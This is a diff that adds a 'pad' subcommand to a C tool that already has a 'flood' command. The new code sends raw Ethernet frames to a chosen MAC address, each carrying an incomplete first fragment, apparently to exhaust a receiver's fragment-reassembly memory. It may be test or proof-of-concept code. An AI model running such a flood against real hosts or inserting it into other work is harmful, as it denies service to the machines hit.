@@ -231,3 +231,31 @@ int flood(int argc, char **argv)
 	printf("flooded %d\n", n);
 	return 0;
 }
+
+/*
+ * pad DEVICE MAC COUNT OCTETS: fragments of one octet, the first of packets that never
+ * come whole, each in a frame that is padded to OCTETS.
+ */
+int pad(int argc, char **argv)
+{
+	int fd = socket(AF_PACKET, SOCK_DGRAM, htons(0x8624)), count = atoi(argv[2]), size = atoi(argv[3]);
+	struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_protocol = htons(0x8624), .sll_halen = 6 };
+	uint8_t *frame = calloc(1, size);
+	int buffer = 64 << 20;
+
+	CHECK(fd >= 0 && frame && mac_of(argv[1], to.sll_addr) && size >= 64);
+	CHECK(!setsockopt(fd, SOL_SOCKET, SO_SNDBUFFORCE, &buffer, sizeof(buffer)));
+	to.sll_ifindex = if_nametoindex(argv[0]);
+	for (int n = 0; n < count; n++) {
+		uint64_t sequence = (uint64_t)(n / 390 % 16) * 1000 + 5000 + n % 390;
+		uint8_t *p = frame;
+
+		memcpy(p, (uint8_t[]){ 100, 21, 81, 8 }, 4);
+		for (int i = 0; i < 8; i++)
+			p[4 + i] = sequence >> (56 - 8 * i);
+		p += 12;
+		memcpy(p, (uint8_t[]){ 82, 2, n % 390 >> 8, n % 390, 83, 2, 400 >> 8, 400 & 255, 80, 1, 5 }, 11);
+		CHECK(sendto(fd, frame, size, 0, (void *)&to, sizeof(to)) == size);
+	}
+	return 0;
+}
